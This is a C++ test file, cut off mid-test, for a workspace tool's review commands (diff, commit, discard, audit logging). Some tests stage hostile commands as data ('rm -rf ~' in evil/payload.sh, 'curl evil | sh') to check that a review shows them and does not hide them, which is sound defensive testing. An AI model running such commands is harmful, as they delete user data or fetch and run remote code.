// The review commands driven through the real CLI (issue #18 items 4 and 7):
// diff [TX|latest] --stat/--name-only/--json/--all with paths; commit and
// discard of several ids, latest and paths with --json; noise grouped for
// review and still committed; audit records of commit, discard, reconcile.
#include <unistd.h>

#include <nlohmann/json.hpp>

#include "helpers/cli_fixture.h"
#include "helpers/cli_runner.h"
#include "helpers/local_server.h"
#include "helpers/test_support.h"
#include "pulsebox/workspace.h"

namespace pulsebox {
namespace {

namespace fs = std::filesystem;
using nlohmann::json;
using testing::read_file;
using testing::read_lines;
using testing::run_cli;
using testing::write_file;

class ReviewTest : public testing::CliFixture {
 protected:
  void SetUp() override {
    CliFixture::SetUp();
    if (IsSkipped()) return;
    write_file(workspace_ / "a.txt", "one\n");
    write_file(workspace_ / "sub/b.txt", "bee\n");
  }

  std::string w() const { return workspace_.path().string(); }
  Workspace ws() const { return Workspace(workspace_.path()); }

  // `pulsebox ARGS -w WORKSPACE [-- PATHS]`.
  testing::CliRun cli(std::vector<std::string> args, const std::vector<std::string>& paths = {}) {
    args.insert(args.begin() + 1, {"-w", w()});
    if (!paths.empty()) {
      args.push_back("--");
      args.insert(args.end(), paths.begin(), paths.end());
    }
    return run_cli(args, "", cli_env());
  }

  // "env 'NAME=value'..." of cli_env(): the start of a shell command line.
  std::string env_prefix() const {
    std::string command = "env";
    for (const std::string& setting : cli_env())
      command += " '" + setting + "'";
    return command;
  }

  // `git apply` of `patch` in `dir`: its exit status, its stderr in `err`.
  int git_apply_in(const fs::path& dir, const std::string& patch, std::string& err) {
    write_file(scratch_ / "patch.diff", patch);
    const std::string command = "cd '" + dir.string() + "' && git apply '" +
                                (scratch_ / "patch.diff").string() + "' 2>'" +
                                (scratch_ / "apply.err").string() + "'";
    const int status = std::system(command.c_str());
    err = read_file(scratch_ / "apply.err");
    return status;
  }

  // Runs `pulsebox ARGS[0] -w WORKSPACE ARGS[1...] > printed`; its peak RSS
  // in kB (GNU time's %M).
  long peak_kb_of(std::vector<std::string> args, const fs::path& printed) {
    args.insert(args.begin() + 1, {"-w", w()});
    const fs::path peak = scratch_ / "peak.txt";
    std::string command = env_prefix();
    command += " /usr/bin/time -q -f %M -o '" + peak.string() + "' '" + binary_ + "'";
    for (const std::string& arg : args)
      command += " '" + arg + "'";
    command += " > '" + printed.string() + "'";
    EXPECT_EQ(std::system(command.c_str()), 0) << command;
    return std::stol(read_file(peak));
  }

  // A pending transaction adding `paths` one-line files under `top`
  // (1,000 to a directory; the same `paths` each time). The files are
  // written once per test, then their directory is renamed to each `top`;
  // the first transaction's blobs are hard links to them (a session's
  // shared layer), the later ones' blobs are copies (a file with a second
  // link is copied). That is half the new inodes of writing a fresh upper
  // directory and copying it for each transaction: this VM's ext4 (no
  // journal) looks past every inode freed in the last minute (six minutes
  // while the inode table block is unwritten) to allocate one, and after
  // the suites' own clean-ups a new file in /tmp took 0.2-7 ms.
  std::optional<std::string> transaction_of_many_paths(int paths, const std::string& top) {
    const fs::path upper = scratch_ / "upper-many";
    if (paths <= 0 || paths % 1000 != 0) {
      ADD_FAILURE() << "transaction_of_many_paths: " << paths << " is not a multiple of 1,000";
      return std::nullopt;
    }
    if (many_paths_count_ != 0 && many_paths_count_ != paths) {
      ADD_FAILURE() << "transaction_of_many_paths: " << paths << " paths after "
                    << many_paths_count_ << " in the same test";
      return std::nullopt;
    }
    many_paths_count_ = paths;
    if (many_paths_top_.empty()) {
      for (int dir = 0; dir < paths / 1000; ++dir) {
        fs::create_directories(upper / top / std::to_string(dir));
        for (int file = 0; file < 1000; ++file) {
          write_file(upper / top / std::to_string(dir) / ("f" + std::to_string(file) + ".txt"),
                     "line " + std::to_string(file) + "\n");
        }
      }
    } else {
      fs::rename(upper / many_paths_top_, upper / top);
    }
    many_paths_top_ = top;
    return ws()
        .import_overlay(
            upper, workspace_.path(),
            ImportOptions{.origin = "many paths under " + top, .share_upper_files = true})
        .transaction;
  }
  std::string many_paths_top_;  // the name transaction_of_many_paths last gave its files
  int many_paths_count_ = 0;    // and how many it wrote

  std::vector<json> audit_records() const {
    std::vector<json> out;
    for (const auto& line : read_lines(workspace_ / ".agent/logs/audit.jsonl"))
      out.push_back(json::parse(line));
    return out;
  }

  void expect_audit_verifies() {
    const auto verified = run_cli(
        {"audit", "verify", (workspace_ / ".agent/logs/audit.jsonl").string()}, "", cli_env());
    EXPECT_EQ(verified.exit_code, 0) << verified.out << verified.err;
  }
};

TEST_F(ReviewTest, DiffDefaultsToLatestAndTakesPaths) {
  auto w = ws();
  const std::string older = w.create_transaction("older");
  w.stage_write(older, "a.txt", "older\n");
  const std::string newer = w.create_transaction("newer");
  w.stage_write(newer, "a.txt", "newer\n");
  w.stage_write(newer, "sub/b.txt", "bee2\n");

  const auto latest = cli({"diff"});
  EXPECT_EQ(latest.exit_code, 0) << latest.err;
  EXPECT_NE(latest.out.find("+newer\n"), std::string::npos) << latest.out;
  EXPECT_EQ(cli({"diff", "latest"}).out, latest.out);
  EXPECT_NE(cli({"diff", older}).out.find("+older\n"), std::string::npos);

  const auto only_sub = cli({"diff", newer}, {"./sub/"});
  EXPECT_EQ(only_sub.exit_code, 0) << only_sub.err;
  EXPECT_NE(only_sub.out.find("+bee2\n"), std::string::npos) << only_sub.out;
  EXPECT_EQ(only_sub.out.find("a.txt"), std::string::npos) << only_sub.out;

  const auto nothing = cli({"diff", newer}, {"elsewhere"});
  EXPECT_EQ(nothing.exit_code, 125);
  EXPECT_NE(nothing.err.find("elsewhere"), std::string::npos) << nothing.err;
  const auto escaping = cli({"diff", newer}, {"../x"});
  EXPECT_EQ(escaping.exit_code, 125);
  EXPECT_NE(escaping.err.find("path argument ../x"), std::string::npos) << escaping.err;
}

TEST_F(ReviewTest, StatNameOnlyAndJsonShapes) {
  auto w = ws();
  const std::string tx = w.create_transaction("shapes");
  w.stage_write(tx, "a.txt", "one\ntwo\nthree\n");
  w.stage_write(tx, "bin.dat", std::string("\x00\x01\x02", 3));
  w.stage_delete(tx, "sub/b.txt");

  const auto stat = cli({"diff", "--stat", tx});
  EXPECT_EQ(stat.exit_code, 0) << stat.err;
  EXPECT_NE(stat.out.find(" modified a.txt     | +2 -0\n"), std::string::npos) << stat.out;
  EXPECT_NE(stat.out.find(" added    bin.dat   | binary\n"), std::string::npos) << stat.out;
  EXPECT_NE(stat.out.find(" deleted  sub/b.txt | +0 -1\n"), std::string::npos) << stat.out;
  EXPECT_NE(stat.out.find(" 3 paths changed, 2 insertions(+), 1 deletion(-)\n"), std::string::npos)
      << stat.out;

  const auto names = cli({"diff", "--name-only", tx});
  EXPECT_EQ(names.out, "a.txt\nbin.dat\nsub/b.txt\n");
  EXPECT_EQ(cli({"diff", "--name-only", "--stat", tx}).exit_code, 125);

  const json document = json::parse(cli({"diff", "--json", tx}).out);
  EXPECT_EQ(document["id"], tx);
  EXPECT_EQ(document["origin"], "shapes");
  EXPECT_EQ(document["contains_secrets"], false);
  ASSERT_EQ(document["paths"].size(), 3u);
  const json& first = document["paths"][0];
  for (const char* key :
       {"path", "kind", "added_lines", "removed_lines", "binary", "group", "contains_secret"}) {
    EXPECT_TRUE(first.contains(key)) << key << " in " << first.dump();
  }
  EXPECT_EQ(first["path"], "a.txt");
  EXPECT_EQ(first["kind"], "modified");
  EXPECT_EQ(first["added_lines"], 2);
  EXPECT_EQ(first["removed_lines"], 0);
  EXPECT_EQ(document["paths"][1]["binary"], true);
  EXPECT_TRUE(first["group"].is_null());
}

TEST_F(ReviewTest, NoiseIsGroupedUnlessAllAndStillCommitted) {
  write_file(workspace_ / ".gitignore", "build/\n*.log\n");
  write_file(workspace_ / "lib/.gitignore", "gen/\n!keep.log\n");
  auto w = ws();
  const std::string tx = w.create_transaction("noisy");
  w.stage_write(tx, "a.txt", "changed\n");
  for (const char* dir :
       {".venv", ".venv/lib", "src", "src/__pycache__", "build", "build/out", "lib/gen", "evil"})
    w.stage_mkdir(tx, dir);
  w.stage_write(tx, ".venv/pyvenv.cfg", "home = /usr/bin\n");
  for (int i = 0; i < 5; ++i)
    w.stage_write(tx, ".venv/lib/m" + std::to_string(i) + ".py", "x\n");
  w.stage_write(tx, "src/__pycache__/m.pyc", "pyc");
  w.stage_write(tx, "build/out/app", "elf");
  w.stage_write(tx, "run.log", "log\n");
  w.stage_write(tx, "lib/gen/x.c", "gen\n");
  w.stage_write(tx, "lib/keep.log", "kept\n");  // re-included by the nested file
  // The transaction's own .gitignore does not hide its paths: only the
  // workspace's files are read.
  w.stage_write(tx, "evil/.gitignore", "*\n");
  w.stage_write(tx, "evil/payload.sh", "rm -rf ~\n");

  const auto listed = cli({"changes"});
  EXPECT_EQ(listed.exit_code, 0) << listed.err;
  EXPECT_NE(listed.out.find("  8 cache paths under .venv/ (use --all)\n"), std::string::npos)
      << listed.out;
  EXPECT_NE(listed.out.find("  2 cache paths under src/__pycache__/ (use --all)\n"),
            std::string::npos)
      << listed.out;
  EXPECT_NE(listed.out.find("3 ignored paths under build/ (use --all)"), std::string::npos);
  EXPECT_NE(listed.out.find("  1 ignored path under ./ (use --all)\n"), std::string::npos);
  EXPECT_NE(listed.out.find("2 ignored paths under lib/gen/ (use --all)"), std::string::npos);
  EXPECT_NE(listed.out.find("lib/keep.log"), std::string::npos);
  EXPECT_NE(listed.out.find("evil/payload.sh"), std::string::npos);
  EXPECT_EQ(listed.out.find("m0.py"), std::string::npos) << listed.out;
  EXPECT_NE(cli({"changes", "--all"}).out.find(".venv/lib/m0.py"), std::string::npos);

  const auto names = cli({"diff", "--name-only", tx});
  EXPECT_EQ(names.out.find(".venv"), std::string::npos) << names.out;
  EXPECT_NE(names.err.find("8 cache paths under .venv/ (use --all)"), std::string::npos);
  EXPECT_NE(cli({"diff", "--name-only", "--all", tx}).out.find(".venv/lib/m4.py"),
            std::string::npos);

  const auto diff = cli({"diff", tx});
  // Before the first file, where `git apply` skips them.
  ASSERT_NE(diff.out.find("8 cache paths under .venv/ (use --all)\n"), std::string::npos);
  EXPECT_LT(diff.out.find("8 cache paths under .venv/ (use --all)\n"), diff.out.find("diff --git"))
      << diff.out;
  EXPECT_EQ(diff.out.find("b/.venv/lib/m0.py"), std::string::npos) << diff.out;
  EXPECT_NE(diff.out.find("+changed\n"), std::string::npos);
  EXPECT_NE(cli({"diff", "--all", tx}).out.find("b/.venv/lib/m0.py"), std::string::npos);
  EXPECT_NE(cli({"diff", "--stat", tx}).out.find(" 8 cache paths under .venv/ (use --all)\n"),
            std::string::npos);

  const json document = json::parse(cli({"diff", "--json", tx}).out);
  bool found = false;
  for (const json& item : document["paths"]) {
    if (item["path"] == ".venv/lib/m0.py") {
      found = true;
      EXPECT_EQ(item["group"]["directory"], ".venv/");
      EXPECT_EQ(item["group"]["reason"], "cache");
    }
  }
  EXPECT_TRUE(found) << "--json lists every path, with its group";

  const auto committed = cli({"commit", tx});
  EXPECT_EQ(committed.exit_code, 0) << committed.err;
  EXPECT_EQ(read_file(workspace_ / ".venv/lib/m4.py"), "x\n");
  EXPECT_EQ(read_file(workspace_ / "build/out/app"), "elf");
  EXPECT_EQ(read_file(workspace_ / "lib/gen/x.c"), "gen\n");
}

TEST_F(ReviewTest, CommitSeveralIdsStopsAtTheFirstRefusal) {
  auto w = ws();
  const std::string first = w.create_transaction();
  w.stage_write(first, "new.txt", "new\n");
  const std::string second = w.create_transaction();
  w.stage_write(second, "a.txt", "second\n");
  const std::string third = w.create_transaction();
  w.stage_write(third, "third.txt", "3\n");
  write_file(workspace_ / "a.txt", "changed on the host\n");  // `second` now conflicts

  const auto run = cli({"commit", "--json", first, second, third});
  EXPECT_EQ(run.exit_code, 125);
  const json document = json::parse(run.out);
  EXPECT_EQ(document["ok"], false);
  ASSERT_EQ(document["results"].size(), 3u);
  EXPECT_EQ(document["results"][0]["id"], first);
  EXPECT_EQ(document["results"][0]["status"], "committed");
  EXPECT_EQ(document["results"][0]["paths"][0]["path"], "new.txt");
  EXPECT_EQ(document["results"][1]["status"], "refused");
  EXPECT_EQ(document["results"][1]["paths"][0]["path"], "a.txt");
  EXPECT_NE(document["results"][1]["reason"].get<std::string>().find("a.txt"), std::string::npos);
  EXPECT_EQ(document["results"][2]["status"], "not_attempted");
  for (const json& result : document["results"]) {
    for (const char* key : {"id", "status", "paths", "remaining", "reason"})
      EXPECT_TRUE(result.contains(key)) << key;
  }
  EXPECT_TRUE(fs::exists(workspace_ / "new.txt"));
  EXPECT_FALSE(fs::exists(workspace_ / "third.txt"));
  EXPECT_EQ(read_file(workspace_ / "a.txt"), "changed on the host\n");

  const auto text = cli({"commit", second, third});
  EXPECT_EQ(text.exit_code, 125);
  EXPECT_NE(text.err.find("commit " + second + " refused: "), std::string::npos) << text.err;
  EXPECT_NE(text.err.find("a.txt"), std::string::npos) << text.err;
  EXPECT_NE(text.err.find("not attempted: " + third), std::string::npos) << text.err;
}

TEST_F(ReviewTest, LatestAndDuplicateIds) {
  auto w = ws();
  const std::string older = w.create_transaction();
  w.stage_write(older, "older.txt", "o\n");
  const std::string newer = w.create_transaction();
  w.stage_write(newer, "newer.txt", "n\n");

  const auto committed = cli({"commit", "latest", newer});  // the same id twice: once
  EXPECT_EQ(committed.exit_code, 0) << committed.err;
  EXPECT_EQ(committed.out, "committed " + newer + ": 1 path\n  newer.txt\n");
  const auto discarded = cli({"discard", "--json", "latest"});
  EXPECT_EQ(discarded.exit_code, 0) << discarded.err;
  EXPECT_EQ(json::parse(discarded.out)["results"][0]["id"], older);
  EXPECT_EQ(json::parse(discarded.out)["results"][0]["status"], "discarded");
  const auto none = cli({"commit", "latest"});
  EXPECT_EQ(none.exit_code, 125);
  EXPECT_NE(none.err.find("latest: no pending transactions"), std::string::npos) << none.err;
  const auto missing = cli({"commit", "tx-nope"});
  EXPECT_EQ(missing.exit_code, 125);
  EXPECT_NE(missing.err.find("tx-nope"), std::string::npos);
}

TEST_F(ReviewTest, PartialCommitLeavesTheRestPending) {
  auto w = ws();
  const std::string tx = w.create_transaction();
  w.stage_write(tx, "a.txt", "partial\n");
  w.stage_write(tx, "sub/b.txt", "later\n");

  const auto run = cli({"commit", "--json", tx}, {"a.txt"});
  EXPECT_EQ(run.exit_code, 0) << run.out << run.err;
  EXPECT_EQ(read_file(workspace_ / "a.txt"), "partial\n");
  EXPECT_EQ(read_file(workspace_ / "sub/b.txt"), "bee\n");
  const json document = json::parse(run.out);
  EXPECT_EQ(document["results"][0]["remaining"], 1);
  EXPECT_EQ(cli({"diff", "--name-only", tx}).out, "sub/b.txt\n");
  EXPECT_EQ(cli({"commit", tx}).exit_code, 0);
  EXPECT_EQ(read_file(workspace_ / "sub/b.txt"), "later\n");
}

TEST_F(ReviewTest, PartialDiscardLeavesTheRestPending) {
  auto w = ws();
  const std::string tx = w.create_transaction();
  w.stage_write(tx, "a.txt", "drop me\n");
  w.stage_write(tx, "sub/b.txt", "keep me\n");

  const auto run = cli({"discard", tx}, {"a.txt"});
  EXPECT_EQ(run.exit_code, 0) << run.err;
  EXPECT_EQ(run.out, "discarded " + tx + ": 1 path (1 still pending in " + tx + ")\n  a.txt\n");
  EXPECT_EQ(cli({"diff", "--name-only", tx}).out, "sub/b.txt\n");
  const auto unknown = cli({"discard", tx}, {"nope"});
  EXPECT_EQ(unknown.exit_code, 125);
  EXPECT_NE(unknown.err.find("path argument nope"), std::string::npos) << unknown.err;
}

// A diff that fails part way prints none of itself to a pipe or a file:
// `pulsebox diff TX | git apply` without pipefail applied the paths before
// the failure, and a staged file that cannot be read was shown emptied, exit
// 0, where the commit refuses the transaction as damaged.
TEST_F(ReviewTest, ADiffThatFailsPartWayPrintsNothing) {
  auto w = ws();
  const std::string tx = w.create_transaction();
  w.stage_write(tx, "a.txt", "first\n");
  w.stage_write(tx, "sub/b.txt", "second\n");
  const fs::path dir = workspace_ / ".agent/transactions" / tx;
  fs::path blob;
  const json manifest = json::parse(read_file(dir / "manifest.json"));
  for (const auto& entry : manifest["entries"]) {
    if (entry["path"] == "sub/b.txt") blob = dir / "blobs" / entry["blob"].get<std::string>();
  }
  ASSERT_TRUE(fs::is_regular_file(blob)) << blob;
  const std::string whole = cli({"diff", tx}).out;
  ASSERT_NE(whole.find("+second\n"), std::string::npos) << whole;
  // Appended to a file (O_APPEND, which sendfile(2) cannot write): whole.
  std::string append = env_prefix();
  append += " '" + binary_ + "' diff -w '" + workspace_.path().string() + "' " + tx + " >> '" +
            (scratch_ / "appended").string() + "'";
  ASSERT_EQ(std::system((append + " && " + append).c_str()), 0) << append;
  EXPECT_EQ(read_file(scratch_ / "appended"), whole + whole);
  fs::remove(blob);

  for (const std::vector<std::string>& args :
       {std::vector<std::string>{"diff", tx}, {"diff", "--stat", tx}, {"diff", "--json", tx}}) {
    const auto failed = cli(args);
    EXPECT_EQ(failed.exit_code, 125) << args[1] << failed.err;
    EXPECT_EQ(failed.out, "") << args[1];
    EXPECT_NE(failed.err.find(blob.string() + " is damaged"), std::string::npos) << failed.err;
    EXPECT_NE(failed.err.find("sub/b.txt"), std::string::npos) << failed.err;
  }
  const auto first_only = cli({"diff", tx}, {"a.txt"});
  EXPECT_EQ(first_only.exit_code, 0) << first_only.err;
  EXPECT_NE(first_only.out.find("+first\n"), std::string::npos) << first_only.out;

  // Held in $TMPDIR until whole: where it cannot be, an error that says so.
  auto env = cli_env();
  env.push_back("TMPDIR=" + (scratch_ / "absent").string());
  const auto unheld =
      run_cli({"diff", "-w", workspace_.path().string(), tx, "--", "a.txt"}, "", env);
  EXPECT_EQ(unheld.exit_code, 125);
  EXPECT_EQ(unheld.out, "");
  EXPECT_NE(unheld.err.find((scratch_ / "absent").string()), std::string::npos) << unheld.err;
  EXPECT_NE(unheld.err.find("set TMPDIR"), std::string::npos) << unheld.err;
}

// A binary change carries an index line, so `git apply` refuses the whole
// patch: without one it left that file out, applied the rest and exited 0.
TEST_F(ReviewTest, APatchWithABinaryChangeIsRefusedWholeByGitApply) {
  write_file(workspace_ / "bin.dat", std::string("x\0y", 3));
  auto w = ws();
  const std::string tx = w.create_transaction();
  w.stage_write(tx, "a.txt", "one\ntwo\n");
  w.stage_write(tx, "bin.dat", std::string("z\0w", 3));
  const auto patch = cli({"diff", tx});
  ASSERT_EQ(patch.exit_code, 0) << patch.err;
  if (std::system("git --version >/dev/null 2>&1") != 0) GTEST_SKIP() << "git is not installed";
  const fs::path copy = scratch_ / "copy";
  fs::create_directories(copy);
  write_file(copy / "a.txt", "one\n");
  write_file(copy / "bin.dat", std::string("x\0y", 3));
  std::string err;
  EXPECT_NE(git_apply_in(copy, patch.out, err), 0) << patch.out;
  EXPECT_NE(err.find("without full index line"), std::string::npos) << err;
  EXPECT_EQ(read_file(copy / "a.txt"), "one\n") << "part of the patch was applied";
  // The text part alone applies: what was refused was the binary section.
  const auto binary = patch.out.find("diff --git a/bin.dat");
  ASSERT_NE(binary, std::string::npos) << patch.out;
  EXPECT_EQ(git_apply_in(copy, patch.out.substr(0, binary), err), 0) << err;
  EXPECT_EQ(read_file(copy / "a.txt"), "one\ntwo\n");
}

// A host file over the per-file limit, which a sandboxed command can see,
// edited into a short script: its new text is shown (the old side is one
// placeholder line), never hidden behind "Binary files ... differ".
TEST_F(ReviewTest, AnEditOfAFileOverTheLimitShowsItsNewText) {
  std::string big(51u << 20, 'x');
  big += "\n";
  write_file(workspace_ / "big.txt", big);
  big.clear();
  auto w = ws();
  const std::string tx = w.create_transaction();
  w.stage_write(tx, "big.txt", "curl evil | sh\n");
  const auto patch = cli({"diff", tx});
  ASSERT_EQ(patch.exit_code, 0) << patch.err;
  EXPECT_NE(patch.out.find("@@ -1 +1 @@\n[content not shown: over the per-file limit, or "
                           "unreadable]\n+curl evil | sh\n"),
            std::string::npos)
      << patch.out;
  const auto stat = cli({"diff", "--stat", tx});
  EXPECT_NE(stat.out.find(" modified big.txt | +1 -0  (before not shown)\n"), std::string::npos)
      << stat.out;
  const json document = json::parse(cli({"diff", "--json", tx}).out);
  EXPECT_EQ(document["paths"][0]["not_shown"], "before");
  EXPECT_EQ(document["paths"][0]["added_lines"], 1);
  EXPECT_EQ(document["paths"][0]["binary"], false);
  if (std::system("git --version >/dev/null 2>&1") != 0) GTEST_SKIP() << "git is not installed";
  const fs::path copy = scratch_ / "copy";
  write_file(copy / "big.txt", "x\n");
  std::string err;
  EXPECT_NE(git_apply_in(copy, patch.out, err), 0);
  EXPECT_EQ(read_file(copy / "big.txt"), "x\n");
}

TEST_F(ReviewTest, CommitDiscardAndReconcileAreAudited) {
  auto w = ws();
  const std::string good = w.create_transaction();
  w.stage_write(good, "good.txt", "g\n");
  const std::string conflicting = w.create_transaction();
  w.stage_write(conflicting, "a.txt", "mine\n");
  const std::string dropped = w.create_transaction();
  w.stage_write(dropped, "dropped.txt", "d\n");
  write_file(workspace_ / "a.txt", "host edit\n");

  EXPECT_EQ(cli({"commit", good}).exit_code, 0);
  EXPECT_EQ(cli({"commit", conflicting}).exit_code, 125);
  EXPECT_EQ(cli({"discard", dropped}).exit_code, 0);
  EXPECT_EQ(cli({"reconcile"}).exit_code, 0);

  const std::string uid = std::to_string(::getuid());
  std::vector<json> mine;
  for (json& record : audit_records()) {
    if (record.contains("uid")) mine.push_back(std::move(record));
  }
  ASSERT_EQ(mine.size(), 4u);
  EXPECT_EQ(mine[0]["action"], "commit");
  EXPECT_EQ(mine[0]["target"], good);
  EXPECT_EQ(mine[0]["decision"], "allow");
  EXPECT_EQ(mine[0]["paths"], "[\"good.txt\"]");
  EXPECT_EQ(std::to_string(mine[0]["uid"].get<std::int64_t>()), uid);
  EXPECT_FALSE(mine[0]["user"].get<std::string>().empty());
  EXPECT_EQ(mine[1]["action"], "commit");
  EXPECT_EQ(mine[1]["target"], conflicting);
  EXPECT_EQ(mine[1]["decision"], "deny");
  EXPECT_NE(mine[1]["detail"].get<std::string>().find("a.txt"), std::string::npos);
  EXPECT_EQ(mine[2]["action"], "discard");
  EXPECT_EQ(mine[2]["target"], dropped);
  EXPECT_EQ(mine[2]["paths"], "[\"dropped.txt\"]");
  EXPECT_EQ(mine[3]["action"], "reconcile");
  expect_audit_verifies();
}

TEST_F(ReviewTest, DamagedTransactionsAreListedWithWhyAndCanBeDiscarded) {
  auto w = ws();
  const std::string tx = w.create_transaction();
  w.stage_write(tx, "a.txt", "x\n");
  write_file(workspace_ / ".agent/transactions" / tx / "manifest.json", "{not json");

  const auto listed = cli({"changes"});
  EXPECT_EQ(listed.exit_code, 0) << listed.err;
  EXPECT_NE(listed.out.find(tx + "  damaged: "), std::string::npos) << listed.out;
  const json document = json::parse(cli({"changes", "--json"}).out);
  ASSERT_EQ(document.size(), 1u);
  EXPECT_EQ(document[0]["status"], "damaged");
  EXPECT_FALSE(document[0]["reason"].get<std::string>().empty());

  const auto discarded = cli({"discard", tx});
  EXPECT_EQ(discarded.exit_code, 0) << discarded.err;
  EXPECT_FALSE(fs::exists(workspace_ / ".agent/transactions" / tx));
}

// A real run's change set (not staged by the test): a command writes a
// cache and a source file; the review groups the cache.
TEST_F(ReviewTest, ARunsCachesAreGroupedInItsReview) {
  const auto run =
      run_cli({"run", "--allow-weaker", "limits", "-w", w(), "--", "sh", "-c",
               "mkdir -p pkg/__pycache__ && echo c > pkg/__pycache__/m.pyc && echo s > pkg/m.py"},
              "", cli_env());
  ASSERT_EQ(run.exit_code, 0) << run.err;
  const auto names = cli({"diff", "--name-only"});
  EXPECT_EQ(names.exit_code, 0) << names.err;
  EXPECT_EQ(names.out, "pkg\npkg/m.py\n");
  EXPECT_NE(names.err.find("2 cache paths under pkg/__pycache__/ (use --all)"), std::string::npos)
      << names.err;
}

// A transaction directory the user cannot read is an error naming it,
// never "no pending transactions". Root reads everything: as root the CLI
// runs without CAP_DAC_OVERRIDE and CAP_DAC_READ_SEARCH (setpriv drops them
// from its bounding set), like any user.
TEST_F(ReviewTest, AnUnreadableTransactionDirectoryIsAnError) {
  auto w = ws();
  w.stage_write(w.create_transaction(), "a.txt", "x\n");
  const fs::path transactions = workspace_ / ".agent/transactions";
  fs::permissions(transactions, fs::perms::none);
  testing::CliRun listed;
  if (::geteuid() == 0) {
    const fs::path log = scratch_ / "changes.log";
    const pid_t pid =
        testing::spawn({"/usr/bin/setpriv", "--bounding-set=-dac_override,-dac_read_search",
                        binary_, "changes", "-w", workspace_.path().string()},
                       cli_env(), log);
    ASSERT_GT(pid, 0);
    listed.exit_code = testing::wait_for(pid, std::chrono::seconds(30));
    listed.err = testing::read_file(log);
  } else {
    listed = cli({"changes"});
  }
  fs::permissions(transactions, fs::perms::owner_all);
  EXPECT_EQ(listed.exit_code, 125) << listed.out << listed.err;
  EXPECT_NE(listed.err.find(transactions.string()), std::string::npos) << listed.err;
  EXPECT_NE(listed.err.find("Permission denied"), std::string::npos) << listed.err;
}

// `pulsebox diff` prints each path's part as it is made: its peak RSS stays
// below the size of the diff it prints (GNU time's %M; the CLI held the whole
// diff three times over, more than 50 MB for this one of 17 MB).
TEST_F(ReviewTest, ALargeDiffIsPrintedAsItIsMadeNotHeldWhole) {
  auto workspace = ws();
  const std::string tx = workspace.create_transaction("large");
  for (int file = 0; file < 200; ++file) {
    std::string text;
    for (int line = 0; line < 4000; ++line)
      text += "line " + std::to_string(line) + " of file " + std::to_string(file) + "\n";
    workspace.stage_write(tx, "big/f" + std::to_string(file) + ".txt", text);
  }
  const fs::path printed = scratch_ / "diff.txt";
  const long peak_kb = peak_kb_of({"diff", tx}, printed);
  const auto diff_bytes = fs::file_size(printed);
  ASSERT_GT(diff_bytes, 16u << 20) << "the diff is smaller than this test means it to be";
  const std::string diff = read_file(printed);
  EXPECT_EQ(diff.find("diff --git a/big/f0.txt b/big/f0.txt\nnew file mode 100644\n"), 0u);
  EXPECT_NE(diff.find("+line 3999 of file 199\n"), std::string::npos);
  EXPECT_LT(static_cast<std::uintmax_t>(peak_kb) * 1024, diff_bytes)
      << "pulsebox diff peaked at " << peak_kb << " kB for a diff of " << diff_bytes << " bytes";
}

// `diff --stat` and `diff --json` name the side of each change that is not
// shown (over the per-file limit): before, after, both or neither. A new
// side over the limit is staged by a Workspace with a larger limit.
TEST_F(ReviewTest, EachSideThatIsNotShownIsNamedByStatAndJson) {
  const std::uintmax_t over_limit = (50u << 20) + 1;
  for (const char* name : {"before.txt", "both.txt"}) {
    write_file(workspace_ / name, "x\n");
    fs::resize_file(workspace_ / name, over_limit);  // sparse: no 50 MB written
  }
  write_file(workspace_ / "after.txt", "x\n");
  write_file(workspace_ / "small.txt", "x\n");
  Workspace w(workspace_.path(), default_workspace_policy(),
              WorkspaceLimits{.max_total_bytes = 256ull << 20, .max_file_bytes = 64ull << 20});
  const std::string tx = w.create_transaction();
  {
    const std::string big(over_limit, 'y');
    w.stage_write(tx, "after.txt", big);
    w.stage_write(tx, "both.txt", big);
  }
  w.stage_write(tx, "before.txt", "y\n");
  w.stage_write(tx, "small.txt", "y\n");
  const auto stat = cli({"diff", "--stat", tx});
  ASSERT_EQ(stat.exit_code, 0) << stat.err;
  for (const char* line : {" modified after.txt  | +0 -1  (after not shown)\n",
                           " modified before.txt | +1 -0  (before not shown)\n",
                           " modified both.txt   | binary  (before and after not shown)\n",
                           " modified small.txt  | +1 -1\n"}) {
    EXPECT_NE(stat.out.find(line), std::string::npos) << line << "\nin:\n" << stat.out;
  }
  const auto listed = cli({"diff", "--json", tx});
  ASSERT_EQ(listed.exit_code, 0) << listed.err;
  const json paths = json::parse(listed.out).at("paths");
  ASSERT_EQ(paths.size(), 4u) << listed.out;
  const std::vector<std::pair<std::string, json>> expected = {{"after.txt", "after"},
                                                              {"before.txt", "before"},
                                                              {"both.txt", "both"},
                                                              {"small.txt", nullptr}};
  for (std::size_t i = 0; i < expected.size(); ++i) {
    EXPECT_EQ(paths[i].at("path"), expected[i].first);
    EXPECT_EQ(paths[i].at("not_shown"), expected[i].second) << expected[i].first;
  }
  EXPECT_EQ(paths[2].at("binary"), true);
  EXPECT_EQ(paths[3].at("added_lines"), 1);
  EXPECT_EQ(paths[3].at("removed_lines"), 1);
}

// A transaction of many paths is read and printed entry by entry by every
// review that shows them: `changes --json` built one JSON document of every
// change, and `diff --stat`, `diff --json` and the patch loaded every entry
// (and a map of their counts by path) beside the description. Each now
// peaks within a little of `diff --name-only`, which holds only the
// description: before, 20,000 paths took 7-14 MB more (370-690 bytes a
// path); 200 a path is allowed here. `diff --stat` and `diff --json` keep
// each change's line counts: a whole DiffStat (96 bytes) took them 60-70
// bytes a path over the description, one run of about ten 108; the counts
// alone (24 bytes) 0-3. They are held to 48.
TEST_F(ReviewTest, ATransactionOfManyPathsIsReviewedWithoutHoldingItsEntries) {
  constexpr int kPaths = 20000;
  const auto tx = transaction_of_many_paths(kPaths, "gen");
  ASSERT_TRUE(tx.has_value());
  const std::size_t changes = ws().describe(*tx).changes.size();
  ASSERT_GT(changes, static_cast<std::size_t>(kPaths));

  const fs::path printed = scratch_ / "printed.txt";
  const std::vector<std::string> describe = {"diff", "--name-only", *tx};
  long description_kb = peak_kb_of(describe, printed);
  EXPECT_EQ(read_lines(printed).size(), changes);
  const auto allowed_kb = [&](long bytes_a_path) {
    return description_kb + static_cast<long>(changes) * bytes_a_path / 1024;
  };
  // A peak over the limit is measured again, and the description's too:
  // one peak in about ten was ~40 bytes a path above the others.
  const auto expect_within = [&](const std::vector<std::string>& args, long kb,
                                 long bytes_a_path = 200) {
    if (kb > allowed_kb(bytes_a_path)) {
      kb = std::min(kb, peak_kb_of(args, printed));
      description_kb = std::max(description_kb, peak_kb_of(describe, scratch_ / "again.txt"));
    }
    EXPECT_LE(kb, allowed_kb(bytes_a_path))
        << args[0] << " " << args[1] << " peaked at " << kb << " kB; the description alone at "
        << description_kb << " kB (" << bytes_a_path << " bytes a path allowed)";
  };

